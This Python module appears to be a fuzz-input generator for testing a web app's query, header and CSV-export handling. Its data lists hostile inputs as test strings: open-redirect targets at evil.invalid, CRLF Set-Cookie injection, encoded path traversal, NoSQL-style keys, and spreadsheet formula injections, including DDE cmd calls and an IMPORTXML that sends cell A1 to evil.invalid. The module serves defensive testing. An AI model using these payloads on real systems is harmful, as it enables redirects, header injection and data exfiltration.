"""A grammar of what a stranger may put into a query: words, searches, numbers, marks, encodings,
headers.

Everything is made of one `random.Random`, so that a case can be made again.
"""

import random
from collections.abc import Callable
from urllib.parse import quote, quote_plus, urlencode

from .markup import PAYLOADS

WORDS = (
    "skills",
    "small",
    "enterprises",
    "training",
    "G7",
    "standards",
    "and",
    "the",
    "or",
    "AI",
    "PARIS-2025-4",
)
QUOTES = "\"'“”„«»‘’‚‹›「」『』＂＇`´"
OPERATORS = (
    *(
        "OR",
        "or",
        "AND",
        "NOT",
        "NEAR(",
        "NEAR/2",
        "title:",
        "col:",
        "-col:",
        "{title quote}:",
        "^",
        "+",
        '""',
        '"" *',
    ),
    *(
        "&",
        "|",
        "!",
        "<->",
        "<2>",
        "<99999>",
        ":*",
        ":ABCD",
        ":*ABCD",
        "!!",
        "&&",
        "||",
        "(",
        ")",
        "((((",
        "))))",
    ),
    *(
        "-",
        "--",
        "*",
        "**",
        "\\",
        "\\\\",
        "\\'",
        "%",
        "_",
        ";",
        "--;",
        "/*",
        "*/",
        "$$",
        "$1",
        "?1",
        ":1",
        "{}",
        "%s",
    ),
)
SCRIPTS = (
    *(
        "שלום",
        "مرحبا",
        "日本語",
        "한국어",
        "ไทย",
        "हिन्दी",
        "Ελληνικά",
        "ß",
        "ﬁ",
        "İI",
        "ı",
        "ǅ",
        "Å",
        "Å",
        "①",
        "²",
        "٣",
    ),
    *(
        "🧑‍💻",
        "🇫🇷",
        "👍🏽",
        "e\u0301\u0323",
        "a" + "\u0300" * 300,
        "\u202eabc\u202c",
        "\u2066x\u2069",
        "\u200b",
        "\ufeff",
    ),
    *(
        "\u00ad",
        "\u2028",
        "\u0085",
        "\ufffe",
        "\U0010ffff",
        "\U000e0041",
        "\x01",
        "\x1b[31m",
        "\x7f",
        "\t",
        "\r\n",
    ),
)
PATHOLOGIES = (
    *(
        "a" * 900 + "!",
        "a-" * 400,
        "-a" * 400,
        "a'" * 400,
        '"' * 999,
        '" ' * 499,
        "-" * 999,
        "a*" * 400,
        "(" * 999,
    ),
    *(
        ("x" * 60 + " ") * 16,
        "or " * 300,
        "- " * 400,
        "a.b/c-d_e&f@g+h" * 60,
        "\u0301" * 900,
        "a\u0301" * 400,
    ),
    *(
        " " * 990,
        "w" * 1001,
        "word " * 1000,
        "🧑" * 1000,
        '"a ' * 300,
        "‐" * 999,
        "a‐" * 499,
        "\\" * 999,
        "＂" * 999,
    ),
)
NUMBERS = (
    *(
        "0",
        "1",
        "2",
        "-1",
        "+1",
        "01",
        "1.0",
        "1e5",
        "0x1",
        "1_0",
        " 1",
        "1 ",
        "",
        "١",
        "２",
        "²",
        "Ⅷ",
        "१",
        "NaN",
    ),
    *(
        "inf",
        "2147483648",
        "9223372036854775808",
        "9" * 400,
        "9" * 5000,
        "1,2",
        "1;2",
        "last",
        "None",
        "true",
        "[]",
    ),
)
ODD_BYTES = (  # percent-encoded and raw: overlong, surrogates, cut, not UTF-8, nothing
    *(
        "%",
        "%%",
        "%zz",
        "%2",
        "%u0041",
        "%00",
        "%C0%AF",
        "%C0%80",
        "%E0%80%AF",
        "%ED%A0%80",
        "%ED%B0%80%ED%A0%80",
    ),
    *(
        "%FF%FE",
        "%F4%90%80%80",
        "%F8%88%80%80%80",
        "%E2%82",
        "%80",
        "%0A",
        "%0D%0ASet-Cookie:planted=1",
        "%2500",
    ),
    *(
        "\xff",
        "\xc0\xaf",
        "\xed\xa0\x80",
        "\xe2\x82",
        "\x80",
        "%26",
        "%3D",
        "%23",
        "+",
        "%20",
        "%252e%252e%252f",
    ),
)
NAMES = ("q", "theme", "tag", "source", "year", "issuer", "addressee", "sort", "page", "after")
OTHERS = (
    *(
        "codes",
        "add",
        "find",
        "url",
        "format",
        "type",
        "maxwidth",
        "maxheight",
        "compare",
        "v",
        "p",
        "next",
        "utf8",
    ),
    *(
        "utm_source",
        "utm_medium",
        "fbclid",
        "gclid",
        "ref",
        "_",
        "cb",
        "lang",
        "format[]",
        "csrfmiddlewaretoken",
    ),
    *(
        "Q",
        "q[]",
        "a[]",
        "theme[0]",
        "theme[$ne]",
        "__class__",
        "q.x",
        " q",
        "q ",
        "",
        "themes",
        "pages",
        "id",
        "pk",
    ),
)
VALUES = (
    *(
        "skills",
        "smes",
        "SKILLS",
        "education",
        "PARIS-2025",
        "paris-2025",
        "2025",
        "tech7",
        "g7",
        "newest",
        "code",
    ),
    *(
        "relevance",
        "json",
        "xml",
        "rich",
        "link",
        "PARIS-2025-4",
        "PARIS-2025-4,PARIS-2025-5",
        "PARIS-2025-99999",
    ),
    *(
        "sample-lapsed",
        "sample-renamed",
        "sample-retired",
        "TRIAL-2024-2",
        "TRIAL-2024-3",
        "TRIAL-2024-4",
        "2024",
    ),
)
FOREIGN = (  # places that lead away, as some browser or other reads them
    *(
        "//evil.invalid",
        "///evil.invalid",
        "////evil.invalid/a",
        "https://evil.invalid/",
        "http:///evil.invalid",
    ),
    *(
        "/\\evil.invalid",
        "\\\\evil.invalid",
        "\\/evil.invalid",
        "/\t/evil.invalid",
        "\t//evil.invalid",
    ),
    *(
        "/\n/evil.invalid",
        "\x01//evil.invalid",
        "https:evil.invalid",
        "HTTPS://EVIL.INVALID",
        "//evil.invalid\\@x",
    ),
    *(
        "javascript:alert(1)",
        "data:text/html,x",
        "ftp://evil.invalid",
        "http://[",
        "//[::1",
        "//evil.invalid:99999/",
    ),
    *(
        "https://127.0.0.1.evil.invalid/",
        "https://127.0.0.1@evil.invalid/",
        " //evil.invalid",
        "//\u2100.invalid",
    ),
    *(
        "http://127.0.0.1\\@evil.invalid/",
        "//evil.invalid#/",
        "/\r\nSet-Cookie: planted=1",
        "/" + "x" * 9000,
    ),
)
HEADERS = {
    "HX-Request": ("true", "false", "1", ""),
    "HX-Current-URL": ("http://127.0.0.1/", "http://[", "%ff%fe", "javascript:1", "x" * 3000),
    "HX-Current-URL-URI-AutoEncoded": ("true",),
    "HX-History-Restore-Request": ("true",),
    "HX-Boosted": ("true", "é"),
    "HX-Target": ("results", "<b planted>", "%3Cb%20planted%3E"),
    "Accept": (
        "*/*",
        "application/json",
        "text/html;q=x",
        ";;;",
        ",",
        "x" * 3000,
        "text/*;q=0.1;q=0.2",
        "\xff",
    ),
    "Accept-Encoding": ("gzip", "br;q=1.0, *;q=0", "identity;q=0", "\xff", "gzip;q=-1"),
    "Accept-Language": ("de", "xx-" * 900, "*;q=2", "\xff"),
    "If-None-Match": (
        "*",
        'W/"x"',
        '"',
        '"' * 900,
        'W/"a",' * 300,
        "\xff",
        "W/",
        "",
        "\\",
        '"a" "b"',
    ),
    "If-Modified-Since": (
        "Mon, 01 Jan 2024 00:00:00 GMT",
        "yesterday",
        "9" * 400,
        "\xff",
        "Mon, 99 Foo -1 GMT",
    ),
    "If-Match": ("*", '"x"', "\xff"),
    "If-Unmodified-Since": ("Mon, 01 Jan 1990 00:00:00 GMT", "never"),
    "Range": (
        "bytes=0-0",
        "bytes=-1",
        "bytes=9-1",
        "bytes=0-,0-,0-",
        "lines=1-2",
        "bytes=" + "0-0," * 700,
        "\xff",
    ),
    "Cookie": (
        *(
            "appearance=dark",
            "appearance=<b planted>",
            "sessionid=x",
            "sessionid=" + "a" * 3000,
            "csrftoken=x",
            "=;=;",
        ),
        *(
            "a=b;" * 900,
            "\xff=\xff",
            'appearance="',
            "sessionid=\x01",
            "__proto__=1",
            "appearance=light; appearance=dark",
        ),
    ),
    "X-Forwarded-For": ("1.2.3.4", "x", "::1, 1.2.3.4", "\xff", "," * 900),
    "X-Forwarded-Proto": ("https", "http,https", "\xff"),
    "X-Forwarded-Host": ("evil.invalid",),
    "X-Request-ID": ("planted", "x" * 3000, "\xff", "a b"),
    "X-HTTP-Method-Override": ("DELETE",),
    "User-Agent": ("", "x" * 3000, "\xff", "<b planted>"),
    "Referer": ("http://[", "javascript:1", "\xff"),
}


def expression(chance: random.Random, depth: int = 4) -> str:
    """Return a search expression."""
    turn = chance.random()
    if depth == 0 or turn < 0.25:
        return chance.choice(WORDS)
    if turn < 0.4:
        return (
            f"{chance.choice(QUOTES)}{expression(chance, depth - 1)}{chance.choice((*QUOTES, ''))}"
        )
    if turn < 0.7:
        parts = (expression(chance, depth - 1) for _ in range(chance.randint(1, 3)))
        return (
            f"{chance.choice(('', ' '))}{chance.choice(OPERATORS)}{chance.choice(('', ' '))}".join(
                ("", *parts)
            )
        )
    if turn < 0.8:
        return expression(chance, depth - 1) + chance.choice(
            ("*", ":*", "^2", "~1", ")", "(", "'", '"')
        )
    if turn < 0.88:
        return chance.choice(SCRIPTS)
    return chance.choice(PAYLOADS) if turn < 0.97 else chance.choice(PATHOLOGIES)


def anything(chance: random.Random) -> str:
    """Return signs drawn from all of Unicode but its surrogates, which no encoding holds."""
    points = (chance.choice((0x7F, 0x2FF, 0xFFFF, 0x10FFFF)) for _ in range(chance.randint(1, 40)))
    return (
        "".join(chr(chance.randint(0, most)) for most in points).encode("utf-8", "ignore").decode()
    )


def turned(chance: random.Random, mark: str) -> str:
    """Return a signed mark with something of it changed."""
    place = chance.randrange(len(mark)) if mark else 0
    ways = (
        mark,
        mark[:place] + chr(ord(mark[place]) ^ 1) + mark[place + 1 :] if mark else "x",
        mark[:place],
        mark + mark,
        mark.replace(":", ""),
        mark.upper(),
        mark[::-1],
        ":" + mark,
        mark + "=" * place,
    )
    return chance.choice(ways)


def value(chance: random.Random, marks: tuple[str, ...]) -> str:
    """Return what a parameter may be given, of every kind."""
    kinds: tuple[Callable[[], str], ...] = (
        lambda: chance.choice(VALUES),
        lambda: expression(chance),
        lambda: chance.choice(PAYLOADS),
        lambda: chance.choice(NUMBERS),
        lambda: turned(chance, chance.choice(marks or ("x:y:z",))),
        lambda: anything(chance),
        lambda: chance.choice(SCRIPTS) * chance.choice((1, 1, 1, 40)),
        lambda: (
            f"http://testserver/{chance.choice(VALUES)}{chance.choice(('', '/', '?', '#', '/../', '//', '@x'))}"
        ),
        lambda: chance.choice(
            ("http://[", "http://\u2100/", "//x", "ftp://x", "http://x:99999/", "http://x:y@z/")
        ),
    )
    return chance.choice(kinds)()


def name(chance: random.Random, usual: tuple[str, ...]) -> str:
    """Return a parameter's name: mostly one that the address knows."""
    turn = chance.random()
    if turn < 0.7:
        return chance.choice(usual or NAMES)
    if turn < 0.9:
        return chance.choice((*NAMES, *OTHERS))
    return chance.choice((chance.choice(PAYLOADS), anything(chance), "k" * 8192, "é" * 2000))


def encoded(chance: random.Random, text: str) -> str:
    """Return text as it may stand in a query: encoded well, twice, in another code page, barely, or
    not quite.
    """
    turn = chance.random()
    if turn < 0.6:
        return quote_plus(text)
    if turn < 0.7:
        return quote(quote(text))
    if turn < 0.8:
        return quote_plus(text.encode("utf-16-le", "surrogatepass"))
    if turn < 0.9:  # as bytes, but for what an address cannot hold at all
        raw = "".join(
            sign if sign.isprintable() and sign not in " #" else quote(sign) for sign in text
        )
        return raw.encode().decode("latin-1")
    place = chance.randint(0, len(text))
    return quote_plus(text[:place]) + chance.choice(ODD_BYTES) + quote_plus(text[place:])


def query(chance: random.Random, usual: tuple[str, ...], marks: tuple[str, ...]) -> str:
    """Return a query string, as Latin-1 stands for bytes."""
    if chance.random() < 0.01:
        return flood(chance)
    pairs = [
        (name(chance, usual), value(chance, marks))
        for _ in range(chance.choice((1, 1, 1, 2, 2, 3, 5)))
    ]
    pairs += [chance.choice(pairs)] if chance.random() < 0.1 else []
    joined = ""
    for key, text in pairs:
        equals = chance.choice(("=", "=", "=", "=", "=", "=", "=", "", "==", "%3D"))
        join = chance.choice(
            ("&", "&", "&", "&", "&", "&", "&", "&&", ";", "&;", "&amp;", "%26", "?")
        )
        joined += (
            join if joined else ""
        ) + f"{encoded(chance, key)}{equals}{encoded(chance, text)}"
    return joined


def flood(chance: random.Random) -> str:
    """Return very many parameters, of one name or of as many, or nothing but what joins them."""
    many = chance.choice((300, 999, 1000, 1001, 10_000))
    key = chance.choice((*NAMES, "codes", "x"))
    values = chance.choice(
        (lambda at: f"unknown{at}", lambda at: "skills", lambda at: f"PARIS-2025-{at}")
    )
    ways = (
        urlencode([(key, values(at)) for at in range(many)]),
        urlencode([(f"{key}{at}", values(at)) for at in range(many)]),
        "&" * many,
        ";" * many,
        f"{key}=" + ",".join(values(at) for at in range(many)),
    )
    return chance.choice(ways)


def headers(chance: random.Random) -> dict[str, str]:
    """Return headers that a client may send, mostly none."""
    names = chance.sample(sorted(HEADERS), chance.choice((0, 0, 1, 1, 2, 4)))
    return {each: chance.choice(HEADERS[each]) for each in names}


# --- Cells of a table ------------------------------------------------------

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "⁺",
    "₌",
    "−",
    "‐",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\u00ad",
    "\x00",
    "\x0b",
    "\t",
)
FORMS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.invalid","Sample")',
    "cmd|' /C sample'!A0",
    'DDE("cmd";"/C sample";"x")',
    'WEBSERVICE("http://evil.invalid")',
    'IMPORTXML(CONCAT("http://evil.invalid/",A1),"//a")',
    "2+5+cmd|' /C sample'!A0",
    "@SUM(1+1)*cmd|' /C sample'!A0",
)
BREAKS = ("", 'Sample",', "Sample;", "Sample\t", "Sample,", '"', "'", 'Sample"";')


def formula(chance: random.Random) -> str:
    """Return what a spreadsheet may take for a formula, or for the end of a cell and a formula in
    the next.
    """
    before = "".join(chance.choice(BEFORE) for _ in range(chance.choice((0, 0, 1, 1, 2))))
    sign = chance.choice(SIGNS) * chance.choice((1, 1, 1, 2))
    return f"{chance.choice(BREAKS)}{before}{sign}{chance.choice(FORMS)}"
